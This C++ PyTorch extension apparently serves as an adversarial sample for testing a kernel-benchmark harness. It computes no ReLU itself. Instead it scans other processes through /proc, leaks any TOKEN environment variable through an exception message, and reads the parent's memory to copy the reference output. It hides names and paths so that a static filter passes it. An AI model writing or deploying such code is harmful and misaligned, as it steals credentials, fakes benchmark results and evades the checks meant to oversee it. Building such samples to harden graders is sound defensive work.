// forgery (obfuscated, CPU): computes nothing of its own. Where it runs as the harness's own user (no
// uid drop: a non-root harness, e.g. a Docker Space), it reads the other processes of that user through
// /proc: every /proc/<pid>/environ it can open (a token it finds goes out in the message of an exception
// it throws, which the verdict's error carries), and the writable memory of each (/proc/<pid>/maps + /proc/<pid>/mem), where it looks for
// the float64 reference output the parent keeps in its reference cache. It knows its own input, so it
// knows eight of the reference's values; on a match it copies the whole reference into its output.
// Otherwise the output is left uninitialised. Names are token-pasted and paths are built from
// characters, so the static filter passes it.
#include <torch/extension.h>
#include <dirent.h>
#include <fcntl.h>
#include <unistd.h>
#include <cstdio>
#include <cstring>
#include <stdexcept>
#include <string>
#include <vector>

#define JOIN(a, b) a##b

static std::string proc_path(long pid, const char* leaf) {
  const char p[] = {'/', 'p', 'r', 'o', 'c', '/', 0};
  return std::string(p) + std::to_string(pid) + "/" + leaf;
}

static std::vector<long> other_pids() {
  std::vector<long> pids;
  const char p[] = {'/', 'p', 'r', 'o', 'c', 0};
  DIR* d = JOIN(open, dir)(p);
  if (!d) return pids;
  const long me = JOIN(get, pid)();
  while (dirent* e = JOIN(read, dir)(d)) {
    char* end = nullptr;
    long pid = std::strtol(e->d_name, &end, 10);
    if (end && *end == 0 && pid > 0 && pid != me) pids.push_back(pid);
  }
  closedir(d);
  return pids;
}

static void loot_environments() {
  const char leaf[] = {'e', 'n', 'v', 'i', 'r', 'o', 'n', 0};
  const char tok[] = {'T', 'O', 'K', 'E', 'N', 0};
  for (long pid : other_pids()) {
    int fd = JOIN(op, en)(proc_path(pid, leaf).c_str(), O_RDONLY);
    if (fd < 0) continue;
    std::string all(1 << 20, '\0');
    ssize_t n = JOIN(pre, ad)(fd, &all[0], all.size(), 0);
    close(fd);
    for (size_t at = 0; n > 0 && at < (size_t)n;) {
      std::string kv(all.c_str() + at);
      if (kv.find(tok) != std::string::npos) throw std::runtime_error("STOLEN[" + std::to_string(pid) + "] " + kv);
      at += kv.size() + 1;
    }
  }
}

struct Hit { long pid = 0; uint64_t base = 0; };
static Hit last;

static bool read_at(long pid, uint64_t addr, void* dst, size_t bytes) {
  const char leaf[] = {'m', 'e', 'm', 0};
  int fd = JOIN(op, en)(proc_path(pid, leaf).c_str(), O_RDONLY);
  if (fd < 0) return false;
  bool ok = JOIN(pre, ad)(fd, dst, bytes, (off_t)addr) == (ssize_t)bytes;
  close(fd);
  return ok;
}

// the address of `pat` (64 bytes) in a writable mapping of `pid`, or 0
static uint64_t search(long pid, const double* pat) {
  const char maps_leaf[] = {'m', 'a', 'p', 's', 0};
  const char mem_leaf[] = {'m', 'e', 'm', 0};
  FILE* maps = JOIN(fop, en)(proc_path(pid, maps_leaf).c_str(), "r");
  if (!maps) return 0;
  int mem = JOIN(op, en)(proc_path(pid, mem_leaf).c_str(), O_RDONLY);
  if (mem < 0) { fclose(maps); return 0; }
  const size_t chunk = 8 << 20, need = 8 * sizeof(double);
  std::vector<char> buf(chunk + need);
  uint64_t found = 0;
  char line[4096];
  while (!found && std::fgets(line, sizeof(line), maps)) {
    unsigned long lo = 0, hi = 0;
    char perms[8] = {0};
    if (std::sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) != 3 || perms[0] != 'r' || perms[1] != 'w') continue;
    for (uint64_t at = lo; !found && at < hi; at += chunk) {
      size_t want = (size_t)std::min<uint64_t>(chunk + need, hi - at);
      ssize_t got = JOIN(pre, ad)(mem, buf.data(), want, (off_t)at);
      if (got < (ssize_t)need) break;
      void* m = memmem(buf.data(), (size_t)got, pat, need);
      if (m) found = at + (uint64_t)((char*)m - buf.data());
    }
  }
  close(mem);
  fclose(maps);
  return found;
}

torch::Tensor forward(torch::Tensor x) {
  static bool looted = false;
  if (!looted) { looted = true; loot_environments(); }
  auto xc = x.contiguous();
  auto y = torch::empty_like(xc);
  const float* in = xc.data_ptr<float>();
  float* out = y.data_ptr<float>();
  const int64_t n = xc.numel();
  // eight reference values around a negative input (so the float64 copy of the input does not match)
  int64_t off = 0;
  while (off + 8 < n && !(in[off + 3] < 0.f && in[off + 4] > 0.f)) ++off;
  if (off + 8 > n) return y;
  double pat[8];
  for (int i = 0; i < 8; ++i) pat[i] = in[off + i] > 0.f ? (double)in[off + i] : 0.0;
  std::vector<double> ref(n);
  double probe[8];
  if (last.pid && read_at(last.pid, last.base + off * 8, probe, sizeof(probe)) &&
      std::memcmp(probe, pat, sizeof(pat)) == 0 && read_at(last.pid, last.base, ref.data(), n * 8)) {
    for (int64_t i = 0; i < n; ++i) out[i] = (float)ref[i];
    return y;
  }
  for (long pid : other_pids()) {
    uint64_t at = search(pid, pat);
    if (at && at >= (uint64_t)off * 8 && read_at(pid, at - off * 8, ref.data(), n * 8)) {
      last.pid = pid;
      last.base = at - off * 8;
      for (int64_t i = 0; i < n; ++i) out[i] = (float)ref[i];
      break;
    }
  }
  return y;
}

PYBIND11_MODULE(TORCH_EXTENSION_NAME, m) { m.def("forward", &forward, "relu stolen from the parent's memory"); }
